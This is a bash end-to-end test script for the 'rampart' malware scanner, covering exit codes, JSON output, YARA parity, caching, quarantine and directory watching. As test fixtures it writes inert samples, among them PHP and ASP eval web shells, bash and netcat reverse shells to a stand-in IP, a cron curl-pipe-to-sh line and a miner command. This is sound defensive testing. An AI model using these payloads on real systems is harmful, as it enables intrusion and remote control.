#!/usr/bin/env bash
# End-to-end checks of `rampart scan` and `rampart quarantine`: exit codes and JSON shape, rule
# errors with file and line, results equal to the `yara` CLI's on the same rules and tree, the
# result cache across processes, the quarantine round trip through the CLI, and `scan --watch`
# detecting a file written into a watched directory within a second or two.
# Usage: scan_cli_test.sh RAMPART_BINARY SOURCE_DIR
set -uo pipefail
BIN=$1
SRC=$2
RULES=$SRC/rules/malware
fails=0
pass=0
check() {
  local name=$1; shift
  if "$@"; then pass=$((pass + 1)); else echo "FAIL: $name"; fails=$((fails + 1)); fi
}
out=$(mktemp -d)
watch_pid=
cleanup() {
  if [ -n "$watch_pid" ]; then kill "$watch_pid" 2>/dev/null; fi
  rm -rf "$out"
}
trap cleanup EXIT
DATA=$out/data

# A tree of samples (inert text shaped like the real thing) next to clean files.
T=$out/tree
mkdir -p "$T/www/uploads" "$T/tmp" "$T/docs" "$T/cron"
printf '%s' '<?php @eval($_POST["pass"]);?>' >"$T/www/uploads/x.php"
printf '<?php\n@eval(gzinflate(base64_decode("80jNycnXUSjPL8pJUQQA")));\n' >"$T/www/cache.php"
printf '<%%eval request("pass")%%>' >"$T/www/x.asp"
printf '#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n' >"$T/tmp/r.sh"
printf '#!/bin/sh\n./w -o stratum+tcp://pool.example.invalid:3333 -u W\n' >"$T/tmp/start.sh"
printf '#!/bin/sh\necho /usr/local/lib/libh.so > /etc/ld.so.preload\n' >"$T/tmp/inst.sh"
printf '*/5 * * * * root curl -s http://192.0.2.7/a.sh | sh\n' >"$T/cron/job"
printf 'X5O!P%%@AP[4\\PZX54(P^)7CC)7}$EICAR' >"$T/eicar.com"
printf -- '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' >>"$T/eicar.com"
printf '<?php echo htmlspecialchars($_GET["q"] ?? "");\n' >"$T/www/index.php"
cp -r /usr/share/doc/bash "$T/docs/" 2>/dev/null || true
ln -s "$T/tmp/r.sh" "$T/www/link.sh"
mkfifo "$T/www/fifo"

# Usage errors.
"$BIN" scan >"$out/o" 2>"$out/err"; rc=$?
check "no path exits 2" test $rc -eq 2
"$BIN" scan --max-file-size 12Q "$T" >"$out/o" 2>"$out/err"; rc=$?
check "bad --max-file-size exits 2" test $rc -eq 2
printf 'not-a-hash\n' >"$out/bl.txt"
"$BIN" scan --data-dir "$DATA" --blocklist "$out/bl.txt" "$T" >"$out/o" 2>"$out/err"; rc=$?
check "bad blocklist exits 2 naming file:line" bash -c "test $rc -eq 2 && grep -q 'bl.txt:1:' '$out/err'"

# A rule directory with one broken file: reported with file and line, the rest still run.
mkdir -p "$out/rules"
printf 'rule good_one { strings: $a = "stratum+tcp" condition: $a }\n' >"$out/rules/good.yar"
printf 'rule fine { condition: false }\nrule broken { condition: $missing }\n' >"$out/rules/bad.yar"
"$BIN" scan --data-dir "$DATA" --rules "$out/rules" --json "$T" >"$out/r.json" 2>"$out/err"; rc=$?
check "rule error names file and line" grep -q "bad.yar:2: error:" "$out/err"
check "other rule files still run" jq -e '[.findings[].rules[]] == ["good_one"]' "$out/r.json" >/dev/null
check "findings exit 1" test $rc -eq 1

# Shipped rules: JSON shape and the samples found; symlinks and FIFOs are not followed or opened.
"$BIN" scan --data-dir "$DATA" --json "$T" >"$out/s.json" 2>"$out/err"; rc=$?
check "scan exits 1 on findings" test $rc -eq 1
check "json has findings and stats" jq -e '(.findings | type) == "array" and (.stats | has("files") and has("bytes") and has("seconds"))' "$out/s.json" >/dev/null
check "finding fields" jq -e '[.findings[] | has("path") and has("sha256") and has("size") and has("rules") and has("severity") and has("family")] | all' "$out/s.json" >/dev/null
check "eight samples found" test "$(jq '.findings | length' "$out/s.json")" = 8
check "clean files silent" jq -e '[.findings[].path | select(test("index.php|/docs/"))] | length == 0' "$out/s.json" >/dev/null
check "symlink not followed" jq -e '[.findings[].path | select(endswith("link.sh"))] | length == 0' "$out/s.json" >/dev/null
check "sha256 is the file's" test "$(jq -r '.findings[] | select(.path | endswith("x.asp")) | .sha256' "$out/s.json")" = "$(sha256sum "$T/www/x.asp" | cut -c1-64)"

# Results equal the yara CLI's: same rules, same tree, rule and path pairs.
if command -v yara >/dev/null; then
  for tree in "$T" /usr/share/doc; do
    yara -r -N -w "$RULES"/*.yar "$tree" 2>/dev/null | awk '{print $1 " " $2}' | sort >"$out/yara.txt"
    "$BIN" scan --no-cache --rules "$RULES" --json "$tree" 2>/dev/null |
      jq -r '.findings[] | .path as $p | .rules[] | . + " " + $p' | sort >"$out/rampart.txt"
    check "same results as yara on $tree" diff "$out/yara.txt" "$out/rampart.txt"
  done
  # Conditions beyond plain strings (counts, filesize, offsets) on a real tree.
  cat >"$out/generic.yar" <<'YAR'
rule many_the { strings: $a = "the" fullword condition: #a > 50 }
rule small_text { condition: filesize < 200 and uint8(0) != 0x1f }
rule gzip_file { condition: uint16(0) == 0x8b1f }
rule copyright_early { strings: $c = "Copyright" nocase condition: $c in (0..200) }
YAR
  yara -r -N -w "$out/generic.yar" /usr/share/doc 2>/dev/null | awk '{print $1 " " $2}' | sort >"$out/yara2.txt"
  "$BIN" scan --no-cache --rules "$out/generic.yar" --json /usr/share/doc 2>/dev/null |
    jq -r '.findings[] | .path as $p | .rules[] | . + " " + $p' | sort >"$out/rampart2.txt"
  check "generic rules: some matches" test -s "$out/yara2.txt"
  check "generic rules: same results as yara" diff "$out/yara2.txt" "$out/rampart2.txt"
  # Large files (scanned with drop-behind of their pages): counts, fixed offsets and the end.
  mkdir -p "$out/big"
  awk 'BEGIN { for (i = 0; i < 400000; i++) printf "line %08d needle filler filler filler\n", i }' >"$out/big/a.txt"
  printf 'TAILMARK' >>"$out/big/a.txt"
  head -c 20000000 /dev/zero >"$out/big/zero.bin"
  printf 'TAILMARK' >>"$out/big/zero.bin"
  cat >"$out/big.yar" <<'YAR'
rule many_needles { strings: $n = "needle" condition: #n == 400000 }
rule tail_at_end { strings: $t = "TAILMARK" condition: $t at filesize - 8 }
rule line_at_offset { condition: uint32(42 * 200000) == 0x656e696c }
YAR
  yara -r -N -w "$out/big.yar" "$out/big" 2>/dev/null | awk '{print $1 " " $2}' | sort >"$out/yara3.txt"
  "$BIN" scan --no-cache --rules "$out/big.yar" --json "$out/big" 2>/dev/null |
    jq -r '.findings[] | .path as $p | .rules[] | . + " " + $p' | sort >"$out/rampart3.txt"
  check "large files: yara finds all three rules" test "$(wc -l <"$out/yara3.txt")" = 4
  check "large files: same results as yara" diff "$out/yara3.txt" "$out/rampart3.txt"
  check "large files: sha256" test "$("$BIN" scan --no-cache --rules "$out/big.yar" --json "$out/big/zero.bin" | jq -r '.findings[0].sha256')" = "$(sha256sum "$out/big/zero.bin" | cut -c1-64)"
else
  echo "SKIP: yara CLI not installed (scripts/install-deps.sh)"
fi

# The unchanged tree is answered from the cache by a new process.
"$BIN" scan --data-dir "$DATA" --json "$T" >"$out/s2.json" 2>/dev/null
check "rescan reads no file" jq -e '.stats.bytes_read == 0 and .stats.cached == .stats.files' "$out/s2.json" >/dev/null
check "rescan same findings" test "$(jq -c '.findings' "$out/s.json")" = "$(jq -c '.findings' "$out/s2.json")"
# A corrupt cache is reported and rebuilt.
for f in "$DATA"/scan/scan-cache-*.bin; do printf 'garbage' >"$f"; done
"$BIN" scan --data-dir "$DATA" --json "$T" >"$out/s3.json" 2>"$out/err"
check "corrupt cache warned" grep -q "corrupt" "$out/err"
check "corrupt cache: findings intact" test "$(jq '.findings | length' "$out/s3.json")" = 8

# Allowlist by directory clears the web findings.
printf 'dir:%s\n' "$T/www" >"$out/allow.txt"
"$BIN" scan --data-dir "$DATA" --allowlist "$out/allow.txt" --json "$T" >"$out/a.json" 2>/dev/null
check "allowlisted dir skipped" jq -e '[.findings[].path | select(contains("/www/"))] | length == 0' "$out/a.json" >/dev/null

# Quarantine: scan --quarantine moves the files, list shows them, restore puts one back.
if [ "$(id -u)" -eq 0 ]; then
  Q=$out/qtree
  mkdir -p "$Q"
  printf '%s' '<?php @eval($_POST["pass"]);?>' >"$Q/shell.php"
  chown 33:33 "$Q/shell.php"
  chmod 0640 "$Q/shell.php"
  sum=$(sha256sum "$Q/shell.php" | cut -c1-64)
  "$BIN" scan --data-dir "$DATA" --quarantine --json "$Q" >"$out/q.json" 2>"$out/err"; rc=$?
  check "quarantine scan exits 1" test $rc -eq 1
  check "file moved away" test ! -e "$Q/shell.php"
  "$BIN" quarantine --data-dir "$DATA" list --json >"$out/l.json"
  id=$(jq -r --arg p "$Q/shell.php" '.items[] | select(.original_path == $p) | .id' "$out/l.json")
  check "list --json has the item" jq -e --arg p "$Q/shell.php" '[.items[] | select(.original_path == $p) | has("id") and has("sha256") and has("quarantined_at") and has("rules")] == [true]' "$out/l.json" >/dev/null
  check "vault is root-only" test "$(stat -c %a "$DATA/quarantine")" = 700
  printf 'other' >"$Q/shell.php"
  "$BIN" quarantine --data-dir "$DATA" restore "$id" >"$out/o" 2>"$out/err"; rc=$?
  check "restore over an existing file refused" test $rc -eq 2
  rm "$Q/shell.php"
  ln -s /etc/passwd "$Q/shell.php"
  "$BIN" quarantine --data-dir "$DATA" restore "$id" >"$out/o" 2>"$out/err"; rc=$?
  check "restore over a planted symlink refused" test $rc -eq 2
  rm "$Q/shell.php"
  "$BIN" quarantine --data-dir "$DATA" restore "$id" >"$out/o" 2>"$out/err"; rc=$?
  check "restore succeeds" test $rc -eq 0
  check "restored bytes" test "$(sha256sum "$Q/shell.php" | cut -c1-64)" = "$sum"
  check "restored owner and mode" test "$(stat -c '%u:%g %a' "$Q/shell.php")" = "33:33 640"
  "$BIN" quarantine --data-dir "$DATA" delete "$id" >"$out/o" 2>&1; rc=$?
  check "delete of a restored id fails" test $rc -eq 2
else
  echo "SKIP: quarantine checks need root"
fi

# Real time: a file written into a watched directory is reported.
W=$out/watched
mkdir -p "$W"
"$BIN" scan --data-dir "$DATA" --watch --json "$W" >"$out/w.out" 2>"$out/w.err" &
watch_pid=$!
for _ in $(seq 50); do grep -q watching "$out/w.err" && break; sleep 0.1; done
printf '#!/bin/sh\nnc -e /bin/sh 192.0.2.10 4444\n' >"$W/dropped.sh"
found=no
for _ in $(seq 20); do
  if grep -q dropped.sh "$out/w.out"; then found=yes; break; fi
  sleep 0.1
done
check "watch reports a written file within 2 s" test $found = yes
check "watch output is a finding" jq -e 'select(.path | endswith("dropped.sh")) | .rules == ["revshell_netcat_exec"]' "$out/w.out" >/dev/null
kill "$watch_pid" 2>/dev/null
wait "$watch_pid" 2>/dev/null
watch_pid=

echo "scan_cli_test: $pass passed, $fails failed"
[ $fails -eq 0 ]
